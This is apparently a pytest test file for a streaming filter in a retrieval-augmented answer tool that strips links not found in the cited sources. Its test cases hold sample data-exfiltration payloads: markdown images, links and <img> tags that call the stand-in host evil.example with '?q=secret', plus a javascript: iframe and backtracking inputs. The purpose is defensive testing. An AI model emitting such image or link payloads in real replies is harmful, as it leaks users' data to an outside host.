from __future__ import annotations

import pytest

from ragkit.answer.links import Links

SOURCES = ("See https://shop.example/returns, or [the form](/forms/7).", "<a href='https://shop.example/x'>x</a>")


def shown(reply: str, step: int) -> str:
    links = Links(SOURCES)
    return "".join(links.feed(reply[at : at + step]) for at in range(0, len(reply), step)) + links.finish()


@pytest.mark.parametrize("step", [1, 2, 7, 1000])
@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        ("Plain [1]. And [2][3]!", "Plain [1]. And [2][3]!"),
        ("See https://shop.example/returns.", "See https://shop.example/returns."),
        ("Use [the form](/forms/7) [1].", "Use [the form](/forms/7) [1]."),
        ("Go to https://evil.example/?q=secret.", "Go to (link removed)."),
        ("Go to https://shop.example/returns?q=secret", "Go to (link removed)"),
        ("Go to https://shop.exampl", "Go to (link removed)"),
        ("Visit www.evil.example!", "Visit (link removed)!"),
        ("[Reset](https://evil.example/r) now", "Reset now"),
        ("[Reset](/r 'title') now", "Reset now"),
        ("![status](https://evil.example/p.png?q=secret) Done.", "status Done."),
        ("[![a](https://evil.example/1)](https://evil.example/2) b", "a b"),
        ("Paid [1](https://evil.example).", "Paid [1]."),
        ("<img src=https://evil.example/p.png>Done", "Done"),
        ("<iframe src='javascript:x'>Click</iframe> <https://evil.example>", "Click "),
        ("[x]: https://evil.example", "[x]: (link removed)"),
        ("![x][z]\n\n[z]: //evil.example/leak Done", "![x][z]\n\n[z]: (link removed) Done"),
        ("Choose and/or, not 7//2; //console.log(x) // done", "Choose and/or, not 7//2; //console.log(x) // done"),
        ("Use `fns[i](x)` or `vector<link> v` [1].", "Use `fns[i](x)` or `vector<link> v` [1]."),
        (
            "C++:\n```cpp\nauto f = [](int x) { return x; };\n```\n[x](/y)",
            "C++:\n```cpp\nauto f = [](int x) { return x; };\n```\nx",
        ),
        (
            "Run:\n   ```\n   git clone ssh://host.example/x\n   ```",
            "Run:\n   ```\n   git clone ssh://host.example/x\n   ```",
        ),
        ("[the `form`](https://evil.example) of `a[0](b)`", "the `form` of `a[0](b)`"),
        ("See `a` https://evil.example/`b`", "See `a` (link removed)`b`"),
        ("if a < b and c > d: items[0](f)", "if a < b and c > d: items[0]"),
        ("Half a link [text](https://evil.example/", "Half a link [text]((link removed)"),
    ],
)
def test_only_links_of_the_sources_reach_the_reader(reply: str, expected: str, step: int) -> None:
    assert shown(reply, step) == expected


def test_what_is_held_back_is_short() -> None:
    links = Links(())
    written = "".join(links.feed(f"[{'word ' * 30}") for _ in range(50))
    assert len(written) > 50 * 100


@pytest.mark.parametrize("reply", ["[", "[a](", "![[", "<", "[a](b "])
def test_a_reply_of_brackets_alone_comes_to_an_end(reply: str) -> None:
    links = Links(())
    assert len("".join(links.feed(reply) for _ in range(2000)) + links.finish()) >= 2000


@pytest.mark.parametrize("listed", ["[a](b)" * 40, ", ".join(f"[P{page}](p{page}.md)" for page in range(40))])
def test_a_bracket_before_many_links_does_not_stop_the_service(listed: str) -> None:
    links = Links(())  # by backtracking this took 2 ** 40 steps
    written = links.feed(f"See [{listed}") + links.feed("\n\nNext") + links.finish()
    assert written.endswith("\n\nNext")


@pytest.mark.parametrize("step", [1, 3, 1000])
@pytest.mark.parametrize(
    "picture",
    [
        "![a\nb](//evil.example/x?q=secret)",
        "![a\\]b](//evil.example/x?q=secret)",
        "![x](\n//evil.example/x?q=secret)",
        "<img\nsrc=//evil.example/x?q=secret>",
        "<img\nsrc='/\\evil.example/x?q=secret'>",
        f"![{'a ' * 120}](//evil.example/x?q=secret)",
        f"<img alt='{'a' * 310}' src=//evil.example/x?q=secret>",
    ],
)
def test_an_address_without_a_protocol_carries_nothing_away(picture: str, step: int) -> None:
    assert "evil" not in shown(picture, step)


@pytest.mark.parametrize("step", [1, 3, 1000])
@pytest.mark.parametrize(
    "reply",
    [
        "A stray ` and %s",
        "Half `a\nb` %s `c",
        "Escaped \\`%s`",
        "<a title='`'>%s`",
        "Math $a`b$ %s $c`d$",
        "| `a | %s ` |",
        "~~~\n```\n~~~\n%s",
        "- ```\n  ```\n  %s",
        "- a\n\n  ```\n%s",
        "    ```\n    %s",
        "```\ncode\n```\n%s",
        "```\ncode\n   ```\n%s",
        "  ```\n     ```\n  %s",
        "````\n```\n````\n%s",
        "```a`b\n%s",
    ],
)
def test_what_may_be_no_code_after_all_carries_nothing_away(reply: str, step: int) -> None:
    assert "evil" not in shown(reply.replace("%s", "![x](//evil.example/?q=secret)"), step)


def test_code_is_shown_as_it_is_written() -> None:
    links = Links(())
    assert links.feed("```\nfirst(line)\nsecond") == "```\nfirst(line)\nsecond"
    assert Links(()).feed("a ` b " * 300).startswith("a ` b ")
